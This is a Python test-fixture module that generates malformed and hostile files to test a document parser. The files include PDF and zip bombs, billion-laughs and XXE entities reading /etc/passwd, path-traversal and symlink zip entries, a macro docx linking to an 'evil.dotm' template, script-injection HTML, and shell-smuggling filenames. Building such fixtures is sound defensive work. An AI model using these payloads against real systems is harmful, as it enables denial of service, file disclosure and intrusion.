"""Files that are broken, that lie, or that mean harm, each made in a moment. They stay in the folder of a test."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

MEGABYTE = b" " * 1_000_000
SCRIPTS = (
    "naïve café",
    "论文 笔记",
    "статья о сетях",
    "ورقة بحث",
    "कागज़",
    "논문",
    "γράμμα",
    "😀🎓",
    "-rf",
    "a\nb",
    "'\"$(x)`y`",
    "x" * 245,
)
_LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{10 * f"&{before};"}">' for before, name in zip("abcdefghij", "bcdefghijk", strict=True)
)
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATED = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "application/vnd.openxmlformats-"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Default Extension="rels" ContentType="{_PACKAGE}package.relationships+xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    f'<Override PartName="/word/document.xml" ContentType="{_PACKAGE}officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)


# --- PDF ---


def pdf(*pages: str, password: str = "") -> bytes:
    """Return a sound PDF with a page for each text."""
    file = io.BytesIO()
    canvas = Canvas(file, invariant=True, encrypt=StandardEncryption(password) if password else None)
    for page in pages:
        lines = canvas.beginText(72, 760)
        lines.setFont("Times-Roman", 11)
        lines.textLines([page[at : at + 80] for at in range(0, len(page), 80)])
        canvas.drawText(lines)
        canvas.showPage()
    canvas.save()
    return file.getvalue()


def objects(*bodies: bytes) -> bytes:
    """Return a PDF of these objects, the first of which is the catalogue; readers find them without a table of where they are."""
    written = b"".join(b"%d 0 obj\n%s\nendobj\n" % numbered for numbered in enumerate(bodies, start=1))
    return b"%PDF-1.7\n" + written + b"trailer\n<< /Size %d /Root 1 0 R >>\n%%%%EOF\n" % (len(bodies) + 1)


def one_page(content: bytes, entries: bytes = b"", *others: bytes, resources: bytes = b"") -> bytes:
    """Return a PDF of one page; `others` are its objects from number 5 on."""
    return objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 400] /Contents 4 0 R /Resources << %s >> >>" % resources,
        b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content),
        *others,
    )


def blanks(megabytes: int) -> bytes:
    """Return so many megabytes of blanks, packed a thousand times smaller: the same block again and again."""
    packer = zlib.compressobj(9)
    first = packer.compress(MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + (megabytes - 1) * again + packer.flush()


def inflating() -> bytes:
    """Return a page that is a gigabyte of blanks."""
    return one_page(blanks(1000), b"/Filter /FlateDecode")


def doubling() -> bytes:
    """Return a page with a form that draws itself twice, and so on."""
    form, resources = b"/X Do /X Do", b"/XObject << /X 5 0 R >>"
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << %s >>" % resources
    drawn = b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(form), entries, form)
    return one_page(b"/X Do", b"", drawn, resources=resources)


def nested_tree(depth: int) -> bytes:
    """Return a PDF whose only page is so many folders of pages deep."""
    tree = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 3, n + 1) for n in range(depth)]
    return objects(b"<< /Type /Catalog /Pages 2 0 R >>", *tree, b"<< /Type /Page /MediaBox [0 0 9 9] >>")


def without_unicode() -> bytes:
    """Return a page set in a font of drawings that have numbers, and no letters."""
    drawing = b"0 0 m 9 9 l S"
    glyph = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawing), drawing)
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 0] /FirstChar 1 /LastChar 31 /Widths [%s] "
        b"/CharProcs << /odd 6 0 R >> /Encoding << /Differences [1 %s] >> /Resources << >> >>"
    ) % (b"9 " * 31, b"/odd " * 31)
    content = b"BT /F 10 Tf 40 300 Td <%s> Tj ET" % (bytes(range(1, 31)) * 4).hex().encode()
    return one_page(content, b"", font, glyph, resources=b"/Font << /F 5 0 R >>")


def fuzzed(number: int) -> bytes:
    """Return a PDF with one of many kinds of damage."""
    chance = random.Random(number)
    content = bytearray(pdf("A page with some text. " * 20, "Another one. " * 40))
    for _ in range(1 + number % 4):
        at = chance.randrange(len(content))
        match number % 3:
            case 0:
                content[at] ^= 1 << chance.randrange(8)
            case 1:
                del content[at : at + chance.choice([1, 30, 400])]
            case _:
                content[at:at] = content[at // 2 : at // 2 + chance.choice([1, 30, 400])]
    return bytes(content)


# --- archives and what is made of them ---


def zipped(entries: Mapping[str, str | bytes]) -> bytes:
    """Return a zip file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return file.getvalue()


def lying_zip(name: str, megabytes: int) -> bytes:
    """Return a zip file of one entry that says it is small, and is not."""
    body = blanks(megabytes)[2:]  # without the head that zip files leave out
    sizes = struct.pack("<IIIHH", 0, len(body), 100, len(name), 0)
    common = struct.pack("<HHHHH", 20, 0, zipfile.ZIP_DEFLATED, 0, 33) + sizes
    local = b"PK\x03\x04" + common + name.encode() + body
    listed = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode()
    return local + listed + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(listed), len(local), 0)


def docx(body: str, before: str = "", **others: bytes) -> bytes:
    """Return a Word file with this body, with macros and links to the outside."""
    outside = f'Type="{_OFFICE}/attachedTemplate" TargetMode="External" Target="http://127.0.0.1:9/evil.dotm"'
    inside = f'Type="{_OFFICE}/officeDocument" Target="word/document.xml"'
    links, main = (
        f'<Relationships xmlns="{_RELATED}"><Relationship Id="r1" {to}/></Relationships>' for to in (outside, inside)
    )
    document = (
        f'{before}<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'
    )
    parts = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": main,
        "word/document.xml": document,
        "word/_rels/document.xml.rels": links,
    }
    return zipped({**parts, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()", **others})


def link_in_zip() -> bytes:
    """Return a zip file with a link to a file outside."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("main.tex")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


# --- all of them ---


def table(rows: int) -> str:
    """Return a page that is one table."""
    cells = "".join(
        f"<tr><td>row {n}</td><td>{n * 37 % 1009}</td><td>cell of words that fill it</td></tr>" for n in range(rows)
    )
    return f"<html><body><table><tr><th>name</th><th>value</th><th>note</th></tr>{cells}</table></body></html>"


def bibliography(entries: int) -> Iterator[str]:
    """Yield entries of a bibliography."""
    for n in range(entries):
        yield f"@article{{key{n}, author = {{Doe, Jane}}, title = {{The {n}th work on wires}}, year = {{20{n % 20:02}}}}}\n"


def _broken_bibliography() -> bytes:
    whole = list(bibliography(40))
    whole[20] = "@article{missing, author = {Doe, Jane, title = {A brace is missing here}, year = {2001}\n"
    return "\n".join(whole).encode()


def _mixed_bibliography() -> bytes:
    return b"".join(
        f"@article{{m{n}, author = {{Müller, Jörg}}, title = {{Größe number {n}}}, year = {{2001}}}}\n".encode(
            ("utf-8", "latin-1")[n % 2]
        )
        for n in range(20)
    )


_PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
_SCRIPTED = (
    "<html><body><h1>Quiet page</h1><p>Text of the page.</p><script>evil('scripted')</script>"
    "<img onerror='evil()' src=x></body></html>"
)
_NESTED = 100_000
_OUTSIDE = {
    "../../../outside.tex": "evil",
    "/tmp/outside.tex": "evil",  # noqa: S108 - it must not be written
    "..\\outside.tex": "evil",
    "main.tex": r"\documentclass{article}\begin{document}Inside it.\end{document}",
}
_LAUGHING = f"{_LAUGHS}]><html><body><p>&k;</p></body></html>"
_TWICE = 2 * "".join(bibliography(10)).replace("key", "twice").replace("wires", "twins")
_EMPTY = ".pdf .docx .xlsx .pptx .odt .epub .zip .ipynb .rtf .html .eml .tex .csv .bib .md"

FILES: dict[str, Callable[[], bytes]] = {
    "encrypted.pdf": lambda: pdf("secret", password="pw"),  # noqa: S106
    "truncated.pdf": lambda: pdf(*["A page of text. " * 50] * 5)[:1500],
    "zero pages.pdf": lambda: objects(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "many pages.pdf": lambda: pdf(*(f"Page number {n} of very many pages." for n in range(60))),
    "nested pages.pdf": lambda: nested_tree(5_000),
    "nested lists.pdf": lambda: one_page(b"[" * _NESTED + b"] TJ"),
    "a gigabyte of blanks.pdf": inflating,
    "no unicode.pdf": without_unicode,
    **{f"fuzzed {n}.pdf": lambda n=n: fuzzed(n) for n in range(20)},
    "bomb.zip": lambda: zipped({"main.tex": 60 * MEGABYTE}),
    "lying bomb.zip": lambda: lying_zip("main.tex", 1000),
    "bomb.docx": lambda: docx("w", others=b"", **{"word/styles.xml": 60 * MEGABYTE}),
    "lying bomb.xlsx": lambda: lying_zip("xl/workbook.xml", 1000),
    "lying bomb.epub": lambda: lying_zip("META-INF/container.xml", 1000),
    "paths.zip": lambda: zipped(_OUTSIDE),
    "link.zip": link_in_zip,
    "laughs.docx": lambda: docx("&k;", _LAUGHS + "]>"),
    "outside.docx": lambda: docx("&k;", '<!DOCTYPE d [<!ENTITY k SYSTEM "file:///etc/passwd">]>'),
    "macros.docm": lambda: docx("A letter with macros."),
    "laughs.html": _LAUGHING.encode,
    "scripts.html": _SCRIPTED.encode,
    "large table.html": lambda: table(70_000).encode(),
    "nested.html": lambda: b"<html><body>" + b"<div>" * _NESTED + b"deep",
    "nested.ipynb": lambda: b"[" * _NESTED,
    "long line.csv": lambda: b'"' + b"x," * 200_000,
    "brace missing.bib": _broken_bibliography,
    "keys twice.bib": _TWICE.encode,
    "mark.bib": lambda: b"\xef\xbb\xbf" + "".join(bibliography(5)).replace("wires", "marks").encode(),
    "two encodings.bib": _mixed_bibliography,
    "long field.bib": lambda: b"@article{long, title = {Long}, note = {" + b"word " * 200_000 + b"}}",
    "picture.pdf": lambda: _PNG,
    "page.pdf": lambda: b"<html><body>Not found</body></html>",
    "paper.docx": lambda: pdf("A paper under another name."),
    "letter.xlsx": lambda: docx("A letter that is no table."),
    "program.csv": lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 9,
    "text.epub": lambda: b"Only some text.",
    "picture.md": lambda: _PNG,
    **{f"empty{suffix}": bytes for suffix in _EMPTY.split()},
}


def write(folder: Path) -> list[Path]:
    """Write all of them."""
    for name, made in FILES.items():
        (folder / name).write_bytes(made())
    return [folder / name for name in FILES]
